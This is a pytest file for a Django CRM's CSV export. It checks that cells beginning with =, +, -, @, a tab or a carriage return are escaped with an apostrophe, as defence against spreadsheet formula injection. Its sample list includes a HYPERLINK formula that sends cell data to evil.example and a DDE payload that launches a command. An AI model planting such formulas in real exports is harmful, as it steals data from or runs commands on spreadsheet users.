"""The CSV export: cells a spreadsheet would run as formulas go out as text."""

import csv
import io

import pytest
from django.urls import reverse

from core.exports import spreadsheet_cell
from tests.crm.conftest import make_customer

# Cells that Excel, LibreOffice or Google Sheets start a formula (or DDE) with.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1;"Klick")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def exported_rows(client) -> list[list[str]]:
    body = b"".join(client.get(reverse("crm:customer_export")).streaming_content)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_every_cell_that_would_be_a_formula_is_exported_as_text(client_as, demo):
    for number, payload in enumerate(FORMULAS):
        make_customer(
            demo["anna"], "Nord", name=f"{payload} {number}", industry=payload
        )

    rows = exported_rows(client_as("anna"))[1:]

    names = sorted(row[1] for row in rows)
    industries = [row[7] for row in rows]
    assert len(rows) == len(FORMULAS)
    escaped = [cell for cell in industries if cell.startswith("'")]
    assert len(escaped) == len(FORMULAS)
    assert all(cell.startswith("'") for cell in names)
    assert sorted(industries) == sorted(f"'{payload}" for payload in FORMULAS)


@pytest.mark.parametrize(
    ("case", "value", "expected"),
    [
        ("equals", "=1+1", "'=1+1"),
        ("plus", "+49 30 123", "'+49 30 123"),
        ("minus", "-2+3", "'-2+3"),
        ("at", "@SUM(A1)", "'@SUM(A1)"),
        ("tab", "\t=1", "'\t=1"),
        ("carriage return", "\r=1", "'\r=1"),
        ("plain text", "Müller GmbH", "Müller GmbH"),
        ("inner equals", "a=b", "a=b"),
        ("empty", "", ""),
        ("a number", 7, 7),
        ("none", None, None),
    ],
)
def test_spreadsheet_cell(case, value, expected):
    assert spreadsheet_cell(value) == expected
